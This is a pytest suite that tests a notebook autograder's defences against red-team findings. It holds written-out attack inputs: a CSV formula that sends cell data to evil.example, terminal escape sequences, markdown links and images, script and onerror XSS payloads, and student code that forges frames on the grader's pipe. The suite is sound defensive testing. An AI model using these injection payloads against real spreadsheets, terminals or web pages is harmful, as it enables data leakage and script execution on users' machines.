"""Text the student chooses, on its way to what the grader writes (red team A, findings 3-5).

- A lone surrogate ("\\ud800") from the student's process (a forged refusal, a raw frame) is
  replaced where the judge reads the wire; a record saved with one by an older grader no longer
  stops `grade`, `export` and `report` for the whole class; one bad record gets its own CSV row.
- The judge takes a reply only to the request it made (a frame the student's code wrote on the
  pipe itself is not), only with its op's fields, and a refusal only in the forms the guard notes:
  no free text becomes a flag.
- CSV cells cannot be formulas and hold no control characters; report.md, summary.json and
  `grade`'s terminal lines hold no control characters, and report.md no link or image.
- A student's raw HTML (<script>, <img onerror>) does not reach the feedback page.

Each protection comes with its attack and a mutant (the protection weakened) that the attack beats.
"""

from __future__ import annotations

import csv
import json
import os
import sys
import types
from pathlib import Path

import nbformat
import pytest
import torch

from transformer_lab.check import ImplementThisYourself
from transformer_lab_grader import (
    commands,
    grading,
    nbgrader_app,
    records,
    report,
    safe_html,
    verify_session,
    verify_wire,
)
from transformer_lab_grader import feedback as fb
from transformer_lab_grader.verify_guard import UNKNOWN_REFUSAL

REPO = Path(__file__).resolve().parents[2]
L02 = "02_qkv_attention"
SDPA = "scaled_dot_product_attention"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see your grade")'
ESCAPES = "\x1b[2J\x1b]0;owned\x07 [click](http://evil.example/) ![x](http://evil.example/p.png)"
CELLS = {"sdpa-test": 5.0, "self-attention-test": 3.0}


def _record(student: str, flags: list[str], reason: str | None = None) -> dict:
    cells = {
        gid: {"score": 0.0, "max_score": points, "passed": False, "exercises": [], "output": ""}
        for gid, points in CELLS.items()
    }
    return {
        "student": student,
        "assignment": L02,
        "status": "graded",
        "reason": reason,
        "score": 0.0,
        "max_score": 8.0,
        "cells": cells,
        "flags": flags,
        "submission_sha256": "0" * 64,
        "graded_at": "2026-11-22T05:00:00+00:00",
    }


def _save_raw(course: Path, record: dict) -> None:
    """As an older grader saved it: JSON escapes the lone surrogate, so the save itself works."""
    path = records.record_path(course, L02, record["student"])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record), encoding="utf-8")


@pytest.fixture
def course(tmp_path) -> Path:
    return nbgrader_app.course_copy(REPO, tmp_path / "course", [L02], generate_them=False)


# ---------------------------------------------------------------------------------------------
# Finding 3: a lone surrogate.


@pytest.mark.parametrize(
    "body",
    [
        b'{"d": [["refused", ["bad\\ud800flag"]]]}',  # a JSON escape
        '{"d": [["refused", ["bad\ud800flag"]]]}'.encode("utf-8", "surrogatepass"),  # raw
    ],
)
def test_the_wire_replaces_a_lone_surrogate(body, monkeypatch):
    forged = verify_wire._frame(body, [])  # what the student's code can write on the pipe
    assert verify_wire.unpack_reply(forged) == {"refused": ["bad\ufffdflag"]}
    honest = verify_wire.pack_reply({"text": "a\U0001f600", "t": torch.ones(1)})
    reply = verify_wire.unpack_reply(honest)
    assert reply["text"] == "a\U0001f600" and torch.equal(reply["t"], torch.ones(1))
    # Mutant: the old reading (surrogatepass, nothing replaced) keeps the surrogate.
    monkeypatch.setattr(verify_wire, "deep", lambda value: value)
    assert verify_wire.unpack_reply(forged) == {"refused": ["bad\ud800flag"]}


def test_a_poisoned_record_stops_neither_grade_nor_export_nor_report(course, tmp_path, monkeypatch):
    """/work/redteam/A/OUT5: a record an older grader saved with "bad\\ud800flag" in its flags."""
    _save_raw(course, _record("mallory", ["bad\ud800flag in " + SDPA]))
    _save_raw(course, _record("alice", []))
    loaded = records.load_records(course, L02)
    out = records.write_csv(loaded, tmp_path / "grades.csv", {L02: CELLS})  # what `grade` does
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["student"] for r in rows] == ["alice", "mallory"]
    assert rows[1]["flags"] == "bad\ufffdflag in " + SDPA
    assert commands.export(course, tmp_path / "export.csv", L02, wide=False) == 0
    assert commands.report(course, L02, tmp_path / "report") == 0
    assert "bad\ufffdflag" in (tmp_path / "report" / "report.md").read_text(encoding="utf-8")
    # Mutant: records kept as saved and written with strict UTF-8 (the old grader): it crashes.
    monkeypatch.setattr(records, "deep", lambda value: value)
    monkeypatch.setattr(records, "csv_cell", str)
    monkeypatch.setattr(
        records, "write_atomic", lambda path, text: Path(path).write_text(text, encoding="utf-8")
    )
    with pytest.raises(UnicodeEncodeError):
        records.write_csv(records.load_records(course, L02), tmp_path / "old.csv", {L02: CELLS})


def test_a_record_that_cannot_be_written_gets_its_own_row(tmp_path, monkeypatch):
    bad = dict(_record("mallory", []), score="lots")
    good = _record("alice", [])
    out = records.write_csv([good, bad], tmp_path / "grades.csv", {L02: CELLS})
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [(r["student"], r["status"]) for r in rows] == [
        ("alice", "graded"),
        ("mallory", "unreadable"),
    ]
    assert rows[1]["reason"].startswith("the grader could not write this record (ValueError")

    # Mutant: a bad record aborts the CSV (the class's).
    def old(record, error):
        raise error

    monkeypatch.setattr(records, "_bad_row", old)
    with pytest.raises(ValueError):
        records.write_csv([good, bad], tmp_path / "old.csv", {L02: CELLS})


# ---------------------------------------------------------------------------------------------
# Findings 3 and 4: what the judge takes from the student's process.


def _session(reply: dict) -> verify_session.Session:
    """A Session whose process answers `reply` (the judge's reading of it is what is tested)."""
    session = verify_session.Session.__new__(verify_session.Session)
    session.dead, session.flags, session.exercise, session.seq = None, [], SDPA, 0
    session.gone = lambda why: verify_session.ChildGone(why)
    session._to_child = -1
    session._receive = lambda: dict(reply)
    return session


def test_only_the_guards_own_refusals_become_flags(monkeypatch):
    monkeypatch.setattr(verify_session, "write_message", lambda fd, data: None)
    forged = [FORMULA, ESCAPES, "called forbidden F.scaled_dot_product_attention"]
    session = _session({"refused": forged, "seq": 1})
    with pytest.raises(ImplementThisYourself, match=r"your code sent a refusal the re-check"):
        session.request({"op": "call"})
    assert session.flags == [
        f"{UNKNOWN_REFUSAL} in {SDPA}",
        f"called forbidden F.scaled_dot_product_attention in {SDPA}",
    ]
    # Mutant: every refusal taken as sent.
    monkeypatch.setattr(verify_session, "known_refusals", lambda exercise: set(forged))
    session = _session({"refused": forged, "seq": 1})
    with pytest.raises(ImplementThisYourself):
        session.request({"op": "call"})
    assert session.flags[0] == f"{FORMULA} in {SDPA}"


@pytest.mark.parametrize(
    "reply, why",
    [
        ({"refused": ["called forbidden F.scaled_dot_product_attention"]}, "did not make"),
        ({"refused": ["called forbidden F.scaled_dot_product_attention"], "seq": 7}, "not make"),
        ({"kind": "function", "refused": ["ran a copy of x"], "seq": 1}, "malformed reply"),
    ],
)
def test_a_reply_the_judge_did_not_ask_for_is_not_taken(reply, why, monkeypatch):
    monkeypatch.setattr(verify_session, "write_message", lambda fd, data: None)
    op = "describe" if "kind" in reply else "call"
    with pytest.raises(verify_session.ChildGone, match=why):
        _session(reply).request({"op": op, "name": "x"})
    # Mutant: the old reading (any frame is the reply, with any fields): the refusal is taken.
    monkeypatch.setattr(verify_session, "REPLY_FIELDS", {op: set(reply)})
    monkeypatch.setattr(
        verify_session.Session,
        "_exchange",
        lambda self, message, data=None: {k: v for k, v in self._receive().items() if k != "seq"},
    )
    with pytest.raises(ImplementThisYourself):
        _session(reply).request({"op": op, "name": "x"})


FORGED_FRAME = """
import importlib
_s = importlib.import_module("s" + "ys")

def scaled_dot_product_attention(q, k, v, mask=None):
    wire = importlib.import_module("transformer_lab_grader.verify_wire")
    wire.write_message(int(_s.argv[2]), wire.pack_reply({"refused": ["=1+1" + chr(0xD800)]}))
    raise NotImplementedError
"""


@pytest.mark.slow
def test_a_frame_the_student_writes_on_the_pipe_is_not_a_reply(tmp_path, monkeypatch):
    """Red team A09, judged: the frame is refused (its process is ended), no flag of its text."""
    from test_tamper import L02 as LESSON
    from test_tamper import grading_env, passed, run_verify, submission

    grading_env(monkeypatch, tmp_path)
    path = submission(tmp_path, LESSON, {"sdpa-solution": FORGED_FRAME})
    result = run_verify(path, LESSON, tmp_path / "fixed")
    assert passed(result)["sdpa-test"] is False
    assert not [f for f in result["flags"] if "1+1" in f or "refusal" in f], result["flags"]
    assert "did not make" in result["cells"]["sdpa-test"]["message"]
    # Mutant: no request number checked: the forged frame is the reply, its refusal a flag.
    real = verify_session.Session._receive
    monkeypatch.setattr(
        verify_session.Session, "_receive", lambda self: dict(real(self), seq=self.seq)
    )
    result = run_verify(path, LESSON, tmp_path / "mutant")
    assert f"{UNKNOWN_REFUSAL} in {SDPA}" in result["flags"]


# ---------------------------------------------------------------------------------------------
# Finding 4: the CSV, the report, the terminal.


def test_csv_cells_are_not_formulas_and_hold_no_control_characters(tmp_path, monkeypatch):
    record = _record("mallory", [FORMULA, ESCAPES], reason="-2+3")
    out = records.write_csv([record], tmp_path / "grades.csv", {L02: CELLS})
    row = next(csv.DictReader(out.open(encoding="utf-8")))
    assert row["flags"].startswith("'=HYPERLINK(") and "\x1b" not in row["flags"]
    assert "\x07" not in row["flags"] and row["reason"] == "'-2+3"
    assert row["score"] == "0" and row[f"{L02}/sdpa-test"] == "0"
    # Mutant: cells written as they are.
    monkeypatch.setattr(records, "csv_cell", str)
    row = next(csv.DictReader(records.write_csv([record], out, {L02: CELLS}).open()))
    assert row["flags"].startswith("=HYPERLINK(") and "\x1b" in row["flags"]


def test_report_holds_no_control_characters_links_or_images(course, tmp_path, monkeypatch):
    records.write_record(course, _record("mallory", [FORMULA + " in " + SDPA, ESCAPES]))
    report.build_report(course, L02, tmp_path / "report")
    text = (tmp_path / "report" / "report.md").read_text(encoding="utf-8")
    summary = (tmp_path / "report" / "summary.json").read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x07" not in text
    assert "\\u001b" not in summary and "\\u0007" not in summary and "owned" in summary
    assert "\\[click\\](http://evil.example/)" in text and "![x](" not in text
    assert "[click](" not in text and "owned" in text  # the words stay, inert
    # Mutant: the old markdown cell and summary (spaces squashed, HTML and pipes escaped).
    monkeypatch.setattr(report, "printable", lambda text: text)
    monkeypatch.setattr(report, "deep", lambda value, clean: value)
    monkeypatch.setattr(
        report,
        "_md_cell",
        lambda text: " ".join(str(text).split()).replace("<", "&lt;").replace("|", "\\|"),
    )
    report.build_report(course, L02, tmp_path / "old")
    text = (tmp_path / "old" / "report.md").read_text(encoding="utf-8")
    assert "\x1b[2J" in text and "![x](http://evil.example/p.png)" in text


def test_grade_prints_no_control_characters(capsys, monkeypatch):
    line = "mallory: ungradable 0/8 (\x1b[2J\x1b]0;owned\x07 bad\ud800)"
    grading.Grader.say(types.SimpleNamespace(quiet=False), line)
    assert capsys.readouterr().out == "mallory: ungradable 0/8 ([2J]0;owned bad\ufffd)\n"
    # Mutant: printed as it is.
    monkeypatch.setattr(grading, "printable", lambda text: text.replace("\ud800", ""))
    grading.Grader.say(types.SimpleNamespace(quiet=False), line)
    assert "\x1b[2J" in capsys.readouterr().out


# ---------------------------------------------------------------------------------------------
# Finding 5: raw HTML in the feedback page.

MARKDOWN = (
    "Attention is $\\mathrm{softmax}(QK^T/\\sqrt{d_k})V$, **bold**.\n\n"
    "<script>alert('markdown')</script>\n\n"
    '<img src="x" onerror="alert(\'md-img\')">'
)


def test_feedback_pages_drop_a_students_raw_html(tmp_path, monkeypatch):
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(MARKDOWN)])
    path = tmp_path / "autograded.ipynb"
    nbformat.write(nb, path)
    page = fb._render_autograded(REPO, path)
    assert "<script>alert" not in page and "onerror" not in page
    assert "<msqrt>" in page and "<strong>bold</strong>" in page  # maths, formatting kept
    config_file = REPO / "autograder" / "nbgrader_config.py"
    monkeypatch.setenv("TRANSFORMER_LAB_COURSE_ROOT", str(tmp_path / "course"))
    monkeypatch.setattr(sys, "path", list(sys.path))
    saved = dict(os.environ)
    from traitlets.config import Config

    c = Config()
    try:
        code = compile(config_file.read_text(), str(config_file), "exec")
        exec(code, {"get_config": lambda: c, "__file__": str(config_file)})
    finally:
        os.environ.clear()
        os.environ.update(saved)
    assert c.HTMLExporter.sanitize_html is True  # nbgrader's generate_feedback: the same
    assert c.HTMLExporter.filters == safe_html.EXPORTER["filters"]
    # Mutant: nbconvert's default (sanitize_html=False).
    import nbconvert

    class Unsanitised(nbconvert.HTMLExporter):
        def __init__(self, **kwargs):
            super().__init__(**dict(kwargs, sanitize_html=False))

    monkeypatch.setattr(nbconvert, "HTMLExporter", Unsanitised)
    assert "<script>alert('markdown')</script>" in fb._render_autograded(REPO, path)


def test_a_broken_protocol_is_named_in_the_record():
    from transformer_lab_grader import job

    died = "the student's process sent a reply to a request the judge did not make"
    assert job.failure_reason(1, "", RuntimeError(), {"died": died}) == (
        "the grader stopped the notebook's process: it sent a reply to a request the judge did "
        "not make"
    )
    crashed = {"died": "the student's process ended with exit code 3"}
    assert job.failure_reason(1, "", RuntimeError(), crashed).startswith("the kernel died (")
